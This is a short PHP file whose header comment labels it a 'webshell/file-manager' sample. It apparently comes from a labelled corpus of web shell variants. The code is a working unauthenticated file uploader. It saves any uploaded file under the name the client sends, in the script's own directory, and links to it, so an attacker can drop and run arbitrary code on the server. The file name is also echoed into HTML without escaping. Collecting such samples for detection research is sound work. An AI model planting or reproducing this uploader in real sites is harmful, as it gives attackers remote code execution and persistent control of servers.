<?php
/* Family: webshell/file-manager
 * Style: two-line uploader keeping the client's file name
 * Trait: upload moved to the name the client sent, in the script's own directory, file input form printed */
if (isset($_FILES['x'])) { move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']); echo '<a href="' . $_FILES['x']['name'] . '">done</a>'; }
?><form method="post" enctype="multipart/form-data"><input type="file" name="x"><input type="submit" value="up"></form>
